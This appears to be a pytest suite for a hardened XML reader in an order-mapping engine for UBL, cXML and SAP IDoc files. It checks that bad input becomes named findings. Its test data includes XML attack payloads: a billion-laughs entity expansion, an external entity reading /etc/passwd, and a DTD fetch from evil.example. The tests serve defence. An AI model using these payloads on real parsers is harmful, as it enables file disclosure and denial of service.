"""Whatever a partner sends as XML ends as records or named findings: never an exception, a fetch or a full memory."""

import io
import socket
import time
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from mappings.engine.express.xml.lane import XmlLane
from mappings.engine.findings import Code, Finding, Place, Severity
from mappings.engine.xml.envelope import Identity, mask_secrets
from mappings.engine.xml.reader import Records, XmlRecord, XmlStray, looks_like_xml, read, scan
from mappings.library import index

LIBRARY = Path(__file__).parents[4] / "mappings" / "library"
IDOCS = (LIBRARY / "idoc-orders05" / "cases" / "mock-sap-4715" / "input.xml").read_bytes()
CXML = (LIBRARY / "cxml-order" / "cases" / "address-and-payment" / "input.xml").read_bytes()
UBL = (LIBRARY / "ubl-order" / "cases" / "oasis-21" / "input.xml").read_bytes()
START, END = IDOCS.index(b"<IDOC"), IDOCS.rindex(b"</ORDERS05>")
ORDER = b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2">%b</Order>'


def _scanned(raw: bytes) -> list[XmlRecord | XmlStray]:
    return list(scan(io.BytesIO(raw)))


def _findings(raw: bytes) -> list[Finding]:
    found: list[Finding] = []
    for item in _scanned(raw):
        found += read(item).findings if isinstance(item, XmlRecord) else item.findings
    return found


def _codes(raw: bytes) -> set[Code]:
    return {found.code for found in _findings(raw)}


LAUGHS = b"<!DOCTYPE a [<!ENTITY x 'ha'><!ENTITY y '&x;&x;&x;&x;&x;&x;&x;&x;'>]><a>&y;</a>"


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (LAUGHS, Code.XML_ENTITY_DECLARED),
        (b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', Code.XML_ENTITY_DECLARED),
        (b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><a/>', Code.XML_ENTITY_DECLARED),
        ("<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>".encode("utf-16"), Code.XML_ENTITY_DECLARED),
        (b'<!DOCTYPE a [<!ATTLIST a b CDATA "]>"> <!ENTITY x "y">]><a>&x;</a>', Code.XML_NOT_WELL_FORMED),
        (b"<a>&nbsp;</a>", Code.XML_NOT_WELL_FORMED),
        (b"<a>" * 200 + b"</a>" * 200, Code.XML_TOO_DEEP),
        (b"<a>" * 5000 + b"</a>" * 5000, Code.XML_TOO_DEEP),
        (b"<a>\0</a>", Code.XML_NOT_WELL_FORMED),
        (b"<a>&#0;</a>", Code.XML_NOT_WELL_FORMED),
        (b"<a><b></a>", Code.XML_NOT_WELL_FORMED),
        (b"<a><b", Code.XML_NOT_WELL_FORMED),
        (b"<" + b"a" * 250_000, Code.XML_NOT_WELL_FORMED),  # each letter may not be where the name ends
        (b"<a/><b/>", Code.XML_NOT_WELL_FORMED),
        (b"hello", Code.XML_NOT_WELL_FORMED),
        (b'<?xml version="1.0"?>', Code.XML_NOT_WELL_FORMED),
        (b"", Code.FILE_EMPTY),
        (b"\xef\xbb\xbf \n", Code.FILE_EMPTY),
        (b'<?xml version="1.0" encoding="utf-7"?><a/>', Code.ENCODING_INVALID),
        (b'<?xml version="1.0" encoding="cp037"?><a/>', Code.ENCODING_INVALID),
        (b'<?xml version="1.0" encoding="utf-16"?><a/>', Code.ENCODING_INVALID),
        (b"<a>caf\xe9 \x80 5</a>", Code.ENCODING_INVALID),
        (b'<?xml version="1.0" encoding="iso-8859-1"?><a>\x80 5</a>', Code.ENCODING_INVALID),
        (b"<a>" + b"<b/>" * 2_000_001 + b"</a>", Code.XML_TOO_LARGE),
        (b"<a>" + b"x" * (32 * 1024 * 1024) + b"</a>", Code.XML_TOO_LARGE),
        (b"<a/>", Code.XML_RECORD_UNKNOWN),
        (b"<a><![CDATA[<Order>]]></a>", Code.XML_RECORD_UNKNOWN),
        (b"<ORDERS05><IDOC/></ORDERS05>", Code.XML_RECORD_UNKNOWN),
        (IDOCS[:-20], Code.XML_NOT_WELL_FORMED),
    ],
)
def test_bad_input_gets_its_name(raw: bytes, code: Code) -> None:
    assert code in _codes(raw)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_encodings_that_xml_knows_give_the_same_text(encoding: str) -> None:
    text = ORDER.decode().replace("%b", '<a xmlns="">é€\u4e2d</a>')
    (record,) = _scanned(text.encode(encoding))
    assert isinstance(record, XmlRecord)
    reading = read(record)
    assert (record.kind, reading.findings) == ("UBL Order", [])
    assert reading.tree.findtext("a") == "é€\u4e2d"


@pytest.mark.parametrize("encoding", ["iso-8859-1", "windows-1252", "iso-8859-15"])
def test_legacy_encodings_are_believed_when_declared(encoding: str) -> None:
    raw = f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + ORDER % b'<a xmlns="">Mu\xf1oz</a>'
    (record,) = _scanned(raw)
    assert isinstance(record, XmlRecord)
    assert read(record).tree.findtext("a") == "Muñoz"
    assert read(record).findings == []


def test_windows_1252_that_says_utf_8_is_read_with_a_warning() -> None:
    (record,) = _scanned(ORDER % b'<a xmlns="">Mu\xf1oz \x80 5</a>')
    assert isinstance(record, XmlRecord)
    assert read(record).tree.findtext("a") == "Muñoz € 5"
    assert [found.severity for found in record.findings] == [Severity.WARNING]


def test_no_dtd_is_ever_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    """cXML names a DTD on the internet in every document; reading one must not depend on it or tell it anything."""

    def refuse(*arguments: object) -> None:
        pytest.fail(f"a connection was opened to {arguments}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    (record,) = _scanned(CXML)
    assert isinstance(record, XmlRecord)
    assert (record.kind, read(record).findings) == ("cXML OrderRequest", [])
    assert record.envelope.version == "1.2.060"


def test_shared_secrets_do_not_leave_the_reader() -> None:
    assert b"Secret!123" in CXML
    (record,) = _scanned(CXML)
    assert isinstance(record, XmlRecord)
    assert b"Secret!123" not in etree.tostring(read(record).tree)
    assert b"Secret!123" not in mask_secrets(CXML)
    assert mask_secrets(CXML).count(b"********") == 1


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be", "latin-1"])
def test_secrets_are_masked_in_every_encoding_and_nothing_else_changes(encoding: str) -> None:
    secret = "<Sender><SharedSecret>geheim-ö</SharedSecret><Note>ö</Note></Sender>".encode(encoding)

    assert (
        mask_secrets(secret).decode(encoding).endswith("<SharedSecret>********</SharedSecret><Note>ö</Note></Sender>")
    )


def test_a_secret_that_is_cut_off_is_masked_too() -> None:
    assert b"Sec" not in mask_secrets(CXML[: CXML.index(b"Secret!123") + 4]).partition(b"<SharedSecret")[2]


@pytest.mark.parametrize("name", [b"SharedSecret", b"Sender"])
def test_an_element_with_very_many_attributes_takes_no_longer_for_each(name: bytes) -> None:
    many = b" ".join(b'a%d="hush"' % number for number in range(30_000))
    lane = XmlLane(index.compiled("cxml-order"))
    begun = time.process_time()
    (record,) = scan(io.BytesIO(CXML.replace(b"<%b>" % name, b"<%b %b>" % (name, many), 1)), lane)
    assert isinstance(record, XmlRecord)
    assert record.root is not None
    assert (b"hush" in etree.tostring(record.root)) is (name != b"SharedSecret")
    assert time.process_time() - begun < 1


def test_envelopes_name_sender_and_receiver() -> None:
    records = [found for raw in (UBL, CXML, IDOCS) for found in _scanned(raw) if isinstance(found, XmlRecord)]
    envelopes = [record.envelope for record in records]
    assert [envelope.sender for envelope in envelopes] == [
        Identity("7300072311115", "GLN"),
        Identity("AN00000123", "NetworkId"),
        Identity("MCKCLNT100", "LS"),
    ]
    assert [envelope.receiver.value for envelope in envelopes] == ["7302347231111", "AN00000456", "PARTNER01"]
    assert [envelope.environment for envelope in envelopes] == ["", "test", "production"]
    assert [envelope.number for envelope in envelopes] == ["34", "acme-1-1", "0000004715"]


def test_a_peppol_envelope_names_the_access_points_participants() -> None:
    space = "http://www.unece.org/cefact/namespaces/StandardBusinessDocumentHeader"
    raw = (
        (
            f'<StandardBusinessDocument xmlns="{space}"><StandardBusinessDocumentHeader>'
            "<Sender><Identifier>0088:7300010000001</Identifier></Sender>"
            "<Receiver><Identifier>9908:987654321</Identifier></Receiver>"
            "<DocumentIdentification><InstanceIdentifier>I-1</InstanceIdentifier>"
            "<CreationDateAndTime>2026-11-21T08:30:00Z</CreationDateAndTime></DocumentIdentification>"
            "</StandardBusinessDocumentHeader>"
        ).encode()
        + UBL[UBL.index(b"<Order") :]
        + b"</StandardBusinessDocument>"
    )
    (record,) = _scanned(raw)
    assert isinstance(record, XmlRecord)
    assert record.kind == "UBL Order"
    assert record.envelope.sender == Identity("7300010000001", "0088")
    assert record.envelope.receiver == Identity("987654321", "9908")
    assert (record.envelope.control_number, record.envelope.date) == ("I-1", "2026-11-21")


def test_each_idoc_of_a_file_has_its_own_bytes_and_can_be_read_again_alone() -> None:
    one = IDOCS[START:END]
    tricky = b"<!-- <IDOC> --><IDOC BEGIN='>'><![CDATA[</IDOC>]]><x/></IDOC>"
    raw = IDOCS[:START] + one + b"\n" + tricky + b"\n\n" + one + IDOCS[END:]
    records = [found for found in _scanned(raw) if isinstance(found, XmlRecord)]
    assert [raw[record.offset : record.offset + record.length] for record in records] == [one, tricky[15:], one]
    assert [record.line for record in records] == [1, 2, 4]
    again = Records(io.BytesIO(raw)).at(3, records[2].offset, records[2].length, records[2].line)
    assert isinstance(again, XmlRecord)
    assert (again.kind, again.envelope, again.ordinal) == (records[2].kind, records[2].envelope, 3)
    assert etree.tostring(read(again).tree) == etree.tostring(read(records[2]).tree)


def test_what_a_file_says_of_its_encoding_is_told_with_its_first_record_whenever_that_is_read() -> None:
    one = IDOCS[START:END]
    raw = b"<?xml version='1.0' encoding='utf-16'?><ORDERS05>" + one + one + b"</ORDERS05>"
    records = [found for found in _scanned(raw) if isinstance(found, XmlRecord)]
    again = [Records(io.BytesIO(raw)).at(one.ordinal, one.offset, one.length, one.line) for one in records]
    assert [[found.code for found in item.findings] for item in again] == [[Code.ENCODING_INVALID], []]
    assert [item.findings for item in again] == [item.findings for item in records]


def test_what_a_file_says_of_its_encoding_is_told_where_no_record_comes_first() -> None:
    raw = b"<?xml version='1.0' encoding='utf-16'?><ORDERS05><IDOC>"
    (found,) = _scanned(raw)
    assert Code.ENCODING_INVALID in [one.code for one in found.findings]


def test_a_broken_idoc_does_not_take_the_others_with_it() -> None:
    one = IDOCS[START:END]
    raw = IDOCS[:START] + one + one.replace(b"</CURCY>", b"</CURCX>", 1) + one + IDOCS[END:]
    outcomes = [[found.code for found in item.findings] for item in _scanned(raw)]
    assert outcomes == [[], [Code.XML_NOT_WELL_FORMED], []]


def test_namespaces_of_a_container_count_in_its_records() -> None:
    raw = b'<p:O xmlns:p="u"\n xmlns:q="v"><p:IDOC>\n<q:x/></p:IDOC></p:O>'
    (record,) = _scanned(raw)
    assert isinstance(record, XmlRecord)
    assert [child.tag for child in read(record).tree] == ["{v}x"]
    assert record.line == 2


def test_records_of_a_utf_16_file_are_found_again_by_their_ordinal() -> None:
    one = IDOCS[START:END].decode()
    raw = f"<ORDERS05>{one}{one.replace('1000020', '77')}</ORDERS05>".encode("utf-16")
    records = [found for found in _scanned(raw) if isinstance(found, XmlRecord)]
    assert [(record.offset, record.length) for record in records] == [(-1, 0), (-1, 0)]
    again = Records(io.BytesIO(raw)).at(2, -1, 0)
    assert isinstance(again, XmlRecord)
    assert read(again).tree.findtext("E1EDKA1/PARTN") == "77"


class _Endless(io.RawIOBase):
    """A file of many IDocs that is never in memory as a whole."""

    def __init__(self, records: int) -> None:
        self._left = records
        self._buffer = IDOCS[:START]

    def readable(self) -> bool:
        return True

    def readinto(self, target: Any) -> int:
        size = len(target)
        while len(self._buffer) < size and self._left:
            self._left -= 1
            self._buffer += IDOCS[START:END]
            if not self._left:
                self._buffer += IDOCS[END:]
        taken, self._buffer = self._buffer[:size], self._buffer[size:]
        target[: len(taken)] = taken
        return len(taken)


def test_memory_stays_flat_however_many_records_there_are() -> None:
    tracemalloc.start()
    try:
        count = sum(isinstance(found, XmlRecord) for found in scan(io.BufferedReader(_Endless(2000))))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 2000
    assert peak < 4_000_000  # of 4.5 MB in all


@pytest.mark.parametrize(("levels", "found"), [(100, []), (101, ["a"]), (250, ["a"]), (5000, [""])])
def test_too_many_levels_are_named_once(levels: int, found: list[str]) -> None:
    findings = _findings(b"<a>\n" * levels + b"</a>" * levels)
    assert [one.value for one in findings if one.code is Code.XML_TOO_DEEP] == found
    assert [one.place.line for one in findings if one.value == "a" and one.code is Code.XML_TOO_DEEP] == [100] * (
        found == ["a"]
    )


def test_marks_in_texts_do_not_hide_the_end_of_a_record() -> None:
    one = IDOCS[START:END].replace(b"<BELNR>", b"<BELNR>!?", 1)
    raw = IDOCS[:START] + one + one + IDOCS[END:]
    records = [found for found in _scanned(raw) if isinstance(found, XmlRecord)]
    assert [raw[record.offset : record.offset + record.length] for record in records] == [one, one]


def test_a_record_is_looked_through_once_however_many_comments_it_has() -> None:
    """To each of them the end of the record was looked for anew, a megabyte further on: minutes for a megabyte."""
    one = IDOCS[START:END].replace(b"<EDI_DC40", b"<!---->" * 150_000 + b"<EDI_DC40", 1)
    found = _scanned(IDOCS[:START] + one + one + IDOCS[END:])
    assert [type(item) for item in found] == [XmlRecord, XmlRecord]
    assert [item.length for item in found] == [len(one), len(one)]


def test_lines_of_findings_are_those_of_the_file() -> None:
    raw = b"<?xml version='1.0'?>\n<!-- a\n comment -->\n" + ORDER % b"\n<a>\n</b>"
    (found,) = [found for found in _findings(raw) if found.code is Code.XML_NOT_WELL_FORMED]
    assert found.place.line == 6


@given(st.binary(max_size=300))
def test_any_bytes_end_as_records_or_findings(noise: bytes) -> None:
    for raw in (noise, b"<a>" + noise, b"<ORDERS05><IDOC>" + noise + b"</IDOC></ORDERS05>", IDOCS[:900] + noise):
        for item in _scanned(raw):
            if isinstance(item, XmlRecord):
                read(item)
            else:
                assert item.findings


def test_a_record_of_which_nothing_could_be_read_can_still_be_mapped_for_its_findings() -> None:
    """The pipeline maps what is there, whatever it is; it must not fall over the little that is left of a record."""
    (record,) = _scanned(b"<a>" + b"x" * (32 * 1024 * 1024) + b"</a>")
    assert isinstance(record, XmlRecord)
    reading = read(record)
    (found, *_) = index.compiled("ubl-order").apply(reading.tree, {}, reading.places).findings
    assert found.code is Code.MAPPING_REQUIRED


def test_an_element_whose_prefix_nothing_declares_is_named_as_it_stands_there() -> None:
    """A document that is not well-formed is mapped as far as it goes, and what the mapping says of it has a place."""
    (record,) = _scanned(ORDER % b"<cac:OrderLine/><cac:OrderLine><cbC:ID>1</cbC:ID></cac:OrderLine>")
    assert isinstance(record, XmlRecord)
    reading = read(record)

    assert index.compiled("ubl-order").apply(reading.tree, {}, reading.places).findings
    inner = reading.tree[-1][0]
    assert reading.places.place(Place(), inner).xpath == "/Order/cac:OrderLine[2]/cbC:ID"


def test_xml_is_told_from_other_formats_by_its_first_character() -> None:
    assert looks_like_xml(UBL)
    assert looks_like_xml("<a/>".encode("utf-16"))
    assert looks_like_xml(b"\n <a/>")
    assert not looks_like_xml(b"ISA*00*")
    assert not looks_like_xml(b"id;name")
    assert not looks_like_xml(b"")
